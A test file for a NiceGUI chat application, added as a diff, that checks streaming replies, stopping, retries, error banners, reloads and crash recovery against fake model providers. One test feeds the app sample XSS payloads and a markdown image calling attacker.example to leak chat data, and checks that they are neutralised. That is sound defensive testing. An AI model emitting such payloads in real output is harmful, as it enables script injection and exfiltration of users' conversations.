@@ -1,0 +1,266 @@
+"""What a person does on the chat page and what they see, with `python main.py` run against fake providers."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+
+import pytest
+from nicegui import ui
+from nicegui.testing import User
+
+from app.storage.database import create_database
+from app.storage.models import Role, Status
+from app.storage.repository import ChatRepository
+from tests.fakes.provider_server import HttpError, Reply
+
+pytestmark = pytest.mark.usefixtures("app_env")
+
+
+async def eventually(check, timeout: float = 5.0) -> None:
+    """Wait until `check` neither raises AssertionError nor returns False."""
+    deadline = time.monotonic() + timeout
+    while True:
+        try:
+            assert check() is not False
+            return
+        except AssertionError:
+            if time.monotonic() > deadline:
+                raise
+        await asyncio.sleep(0.02)
+
+
+def replies(user: User) -> list[ui.element]:
+    return sorted(user.find(marker="reply").elements, key=lambda element: element.id)
+
+
+def reply_text(reply: ui.element) -> str:
+    return next(e for e in reply.descendants() if isinstance(e, ui.html)).content
+
+
+def user_messages(user: User) -> list[str]:
+    elements = sorted(user.find(marker="user-message").elements, key=lambda element: element.id)
+    return [label.text for element in elements for label in element.descendants() if isinstance(label, ui.label)]
+
+
+def status_of(reply: ui.element) -> str:
+    return reply.props["data-status"]
+
+
+def button(user: User, name: str) -> ui.button:
+    """The button, shown or hidden (`user.find` sees only what is shown)."""
+    return next(e for e in user.current_layout.descendants() if isinstance(e, ui.button) and e.text == name)
+
+
+async def send(user: User, text: str) -> None:
+    user.find("Message").type(text)
+    user.find(kind=ui.button, content="Send").click()
+
+
+async def test_a_sent_message_streams_in_as_markdown_and_completes(user: User, app_env):
+    app_env["openai"].play(Reply(tokens=["Here ", "is ", "**bold**", " text."], delay=0.05))
+    await user.open("/")
+
+    await send(user, "Say something")
+
+    await user.should_see("Say something")
+    await eventually(lambda: assert_status(replies(user)[0], "streaming"))
+    assert button(user, "Stop").visible and not button(user, "Send").visible
+    await eventually(lambda: assert_status(replies(user)[0], "complete"))
+    assert "<strong>bold</strong>" in reply_text(replies(user)[0])
+    assert user.find("Message").elements.pop().value == ""
+    assert button(user, "Send").visible and not button(user, "Stop").visible
+
+
+def assert_status(reply: ui.element, expected: str) -> None:
+    assert status_of(reply) == expected
+
+
+async def test_every_message_says_who_wrote_it(user: User, app_env):
+    await user.open("/")
+
+    await send(user, "Hi")
+    await eventually(lambda: assert_status(replies(user)[0], "complete"))
+
+    [mine] = user.find(marker="user-message").elements
+    assert mine.props["data-role"] == "user" and replies(user)[0].props["data-role"] == "assistant"
+
+
+async def test_enter_sends_the_message(user: User, app_env):
+    await user.open("/")
+
+    user.find("Message").type("Sent with Enter").trigger("keydown.enter.exact")
+
+    await eventually(lambda: assert_status(replies(user)[0], "complete"))
+    assert app_env["openai"].chat_requests[-1].body["messages"][-1]["content"] == "Sent with Enter"
+
+
+async def test_stop_ends_the_reply_and_keeps_what_arrived(user: User, app_env):
+    app_env["openai"].play(Reply(tokens=[f"chunk{i} " for i in range(400)], delay=0.02))
+    await user.open("/")
+    await send(user, "Go on and on")
+    await eventually(lambda: reply_text(replies(user)[0]).count("chunk") >= 5)
+
+    user.find(kind=ui.button, content="Stop").click()
+
+    await eventually(lambda: assert_status(replies(user)[0], "stopped"))
+    assert await asyncio.to_thread(app_env["openai"].hung_up.wait, 1.0)
+    shown = reply_text(replies(user)[0])
+    assert "chunk0" in shown and "chunk399" not in shown
+    await user.should_see("Stopped")
+
+
+async def test_a_provider_error_shows_a_banner_below_the_partial_text_and_retry_asks_again(user: User, app_env):
+    app_env["openai"].play(
+        Reply(tokens=["Partial ", "answer ", "then"], fail_after=2, error_message="Upstream overloaded"),
+        Reply(tokens=["A ", "full ", "answer."]),
+    )
+    await user.open("/")
+    await send(user, "Question")
+
+    await eventually(lambda: assert_status(replies(user)[0], "error"))
+    [banner] = user.find(marker="error-banner").elements
+    assert banner.props["role"] == "alert" and banner.visible
+    await user.should_see("Upstream overloaded")
+    assert "Partial answer" in reply_text(replies(user)[0])
+
+    user.find(kind=ui.button, content="Retry").click()
+
+    await eventually(lambda: assert_status(replies(user)[-1], "complete"))
+    assert "A full answer." in reply_text(replies(user)[-1])
+    assert "Partial answer" in reply_text(replies(user)[0]), "the failed attempt is still there"
+
+
+async def test_an_error_before_the_first_token_names_the_cause(user: User, app_env):
+    app_env["openai"].play(HttpError(401, "Incorrect API key provided", "invalid_api_key"))
+    await user.open("/")
+
+    await send(user, "Hello")
+
+    await eventually(lambda: assert_status(replies(user)[0], "error"))
+    await user.should_see("API key was refused")
+    await user.should_see("Incorrect API key provided")
+
+
+async def test_reloading_mid_stream_shows_the_text_so_far_and_keeps_streaming(user: User, app_env):
+    app_env["openai"].play(Reply(tokens=[f"w{i} " for i in range(60)], delay=0.03))
+    await user.open("/")
+    await send(user, "Long one")
+    await eventually(lambda: "w5 " in reply_text(replies(user)[0]))
+    url = f"/c/{open_conversation_id(user)}"
+
+    await user.open(url)  # a reload: a new page for the same conversation
+
+    assert "w5 " in reply_text(replies(user)[0])
+    await eventually(lambda: assert_status(replies(user)[0], "complete"))
+    assert "w59" in reply_text(replies(user)[0])
+    assert len(app_env["openai"].chat_requests) == 1, "the reload did not start a second reply"
+
+
+def open_conversation_id(user: User) -> str:
+    """The open conversation's id, from its highlighted entry in the drawer."""
+    link = next(e for e in user.find(kind=ui.link).elements if "current" in e.classes)
+    return link.props["href"].removeprefix("/c/")
+
+
+async def test_a_conversation_url_shows_the_whole_history_after_a_restart(user: User, app_env, database_url):
+    app_env["anthropic"].play(Reply(tokens=["First answer."]), Reply(tokens=["Second answer."]))
+    await user.open("/")
+    user.find("Model").click()
+    user.find("Anthropic · claude-haiku-4-5").click()
+    await send(user, "First question")
+    await eventually(lambda: assert_status(replies(user)[0], "complete"))
+    await send(user, "Second question")
+    await eventually(lambda: assert_status(replies(user)[-1], "complete"))
+
+    conversation_id = open_conversation_id(user)
+    await user.open(f"/c/{conversation_id}")
+
+    for text in ("First question", "First answer.", "Second question", "Second answer."):
+        await user.should_see(text)
+    sent = app_env["anthropic"].chat_requests[-1].body["messages"]
+    assert [m["content"] for m in sent] == ["First question", "First answer.", "Second question"]
+
+
+async def test_new_chat_starts_an_empty_conversation_and_the_drawer_lists_newest_first(user: User, app_env):
+    await user.open("/")
+    await send(user, "Older chat")
+    await eventually(lambda: assert_status(replies(user)[0], "complete"))
+
+    user.find(kind=ui.button, content="New chat").click()
+    await user.should_see("How can I help?")
+    await send(user, "Newer chat")
+    await eventually(lambda: assert_status(replies(user)[0], "complete"))
+
+    titles = [link.text for link in sorted(user.find(kind=ui.link).elements, key=lambda e: e.id)]
+    assert titles[:2] == ["Newer chat", "Older chat"]
+    assert user_messages(user) == ["Newer chat"], "the new conversation shows only its own messages"
+
+
+async def test_the_model_selector_groups_models_by_provider(user: User, app_env):
+    await user.open("/")
+
+    [select] = user.find(kind=ui.select).elements
+    labels = list(select.options.values())
+    assert select.props["label"] == "Model"
+    assert "OpenAI · gpt-4o-mini" in labels and "Anthropic · claude-sonnet-4-5" in labels
+    assert "Together · meta-llama/Llama-3.3-70B-Instruct-Turbo" in labels
+    providers = [label.split(" · ")[0] for label in labels]
+    assert providers == sorted(providers, key=providers.index), "each provider's models stand together"
+    assert not any("embedding" in label or "whisper" in label for label in labels)
+
+
+async def test_an_empty_message_is_not_sent(user: User, app_env):
+    await user.open("/")
+
+    await send(user, "   ")
+
+    await asyncio.sleep(0.1)
+    assert app_env["openai"].chat_requests == []
+    await user.should_not_see(marker="user-message")
+    await user.should_see("How can I help?")
+
+
+async def test_hostile_model_output_is_shown_as_text_and_images_become_links(user: User, app_env):
+    hostile = [
+        "<script>alert(1)</script> ",
+        "<img src=x onerror=alert(2)> ",
+        "[click](javascript:alert(3)) ",
+        "![secret](https://attacker.example/leak?d=chat)",
+    ]
+    app_env["openai"].play(Reply(tokens=hostile))
+    await user.open("/")
+
+    await send(user, "Be evil")
+
+    await eventually(lambda: assert_status(replies(user)[0], "complete"))
+    html = reply_text(replies(user)[0])
+    assert "<script" not in html and "<img" not in html and "onerror=" not in html.replace("onerror=alert", "")
+    assert 'href="javascript:' not in html
+    assert '<a class="md-image-link" href="https://attacker.example/leak?d=chat"' in html
+
+
+@pytest.fixture
+def conversation_cut_by_a_crash(app_env, database_url) -> str:
+    """A database as a crash leaves it: a reply still marked streaming. Set up before main.py starts."""
+    repository = ChatRepository(create_database(database_url))
+    conversation = repository.create_conversation("openai:gpt-4o-mini")
+    repository.add_message(conversation.id, Role.USER, "Before the crash", Status.COMPLETE, "openai:gpt-4o-mini")
+    repository.add_message(conversation.id, Role.ASSISTANT, "Half a rep", Status.STREAMING, "openai:gpt-4o-mini")
+    return conversation.id
+
+
+async def test_a_reply_cut_off_by_a_crash_is_shown_as_interrupted_after_restart(
+    conversation_cut_by_a_crash, user: User
+):
+    await user.open(f"/c/{conversation_cut_by_a_crash}")
+
+    assert_status(replies(user)[0], "interrupted")
+    await user.should_see("Half a rep")
+    await user.should_see("Interrupted")
+
+
+async def test_an_unknown_conversation_says_so(user: User):
+    await user.open("/c/not-a-real-id")
+
+    await user.should_see("This conversation does not exist.")
